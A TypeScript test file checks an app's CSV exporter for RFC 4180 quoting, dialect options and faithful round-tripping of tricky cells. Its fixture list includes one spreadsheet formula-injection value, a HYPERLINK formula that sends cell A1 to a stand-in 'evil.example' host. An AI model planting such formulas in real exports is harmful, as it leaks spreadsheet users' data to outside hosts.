import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvChunks, DEFAULT_DIALECT } from '../../../../electron/core/exporters/csv.ts';
import { parseElsewhere } from '../../../support/second-csv-parser.ts';
import { temporaryFolder } from '../../../support/temporary-folder.ts';

const folder = temporaryFolder('csv');

function csv(rows: readonly (readonly string[])[], dialect = DEFAULT_DIALECT): string {
  const [header = [], ...rest] = rows;
  return [...csvChunks(header, rest, dialect)].map(chunk => chunk.text).join('');
}

/** Quotes that have broken other programs' exports. */
const NAUGHTY = [
  ['id', 'quote'],
  ['1', 'plain'],
  ['2', 'a, b; c'],
  ['3', 'he said "no"'],
  ['4', 'two\nlines'],
  ['5', 'two\r\nlines and a \r alone'],
  ['6', '👩‍👩‍👧 🇵🇰 e\u0301'],
  ['7', 'پاکستان نے کہا: "امن، ابھی"'],
  ['8', '=HYPERLINK("http://evil.example?"&A1,"Click")'],
  ['9', ''],
  ['10', '"'],
  ['11', ' spaces kept '],
  ['12', "'quoted'"],
  ['13', '\ttabs\t'],
  ['14', '一带一路，和平'],
  ['15', 'line separator \u2028 and \u2029 and no-break\u00a0space'],
];

describe('a CSV file', () => {
  it('follows RFC 4180: CRLF after every record, quotes only where needed and doubled', () => {
    const text = csv([
      ['a', 'b'],
      ['1', 'x "y"'],
      ['2', 'z'],
    ]);
    expect(text).toBe('\ufeffa,b\r\n1,"x ""y"""\r\n2,z\r\n');
  });

  it('has its byte-order mark, line end and delimiter as asked', () => {
    const text = csv(
      [
        ['a', 'b'],
        ['1;2', '3,4'],
      ],
      { delimiter: ';', lineEnd: '\n', byteOrderMark: false },
    );
    expect(text).toBe('a;b\n"1;2";3,4\n');
  });

  it('does not lose a row that is one empty cell', () => {
    expect(csv([['a'], ['']], { ...DEFAULT_DIALECT, byteOrderMark: false })).toBe('a\r\n""\r\n');
  });

  it('counts its rows across pieces', () => {
    const rows = Array.from({ length: 5_000 }, (_, i) => [String(i), 'word '.repeat(20)]);
    const chunks = [...csvChunks(['n', 'text'], rows)];
    expect(chunks.length).toBeGreaterThan(1);
    expect(chunks.reduce((sum, chunk) => sum + chunk.rows, 0)).toBe(5_000);
  });
});

describe('read back by two parsers that know nothing of Postil', () => {
  it('gives the same cells: csv-parse', () => {
    expect(parse(csv(NAUGHTY), { bom: true })).toEqual(NAUGHTY);
  });

  it('gives the same cells: a parser that is not JavaScript', () => {
    const file = join(folder, 'naughty.csv');
    writeFileSync(file, csv(NAUGHTY));
    expect(parseElsewhere(file)).toEqual(NAUGHTY);
  });

  it('gives the same cells whatever they say', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.string({ unit: fc.constantFrom(',', '"', '\r', '\n', ';', '\t', "'", '=', 'ا', '🌊', ' ') }),
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell, cell), { minLength: 1, maxLength: 8 }), rows => {
        const table = [['a', 'b', 'c'], ...rows];
        expect(parse(csv(table), { bom: true, relax_column_count: false })).toEqual(table);
      }),
    );
  });
});
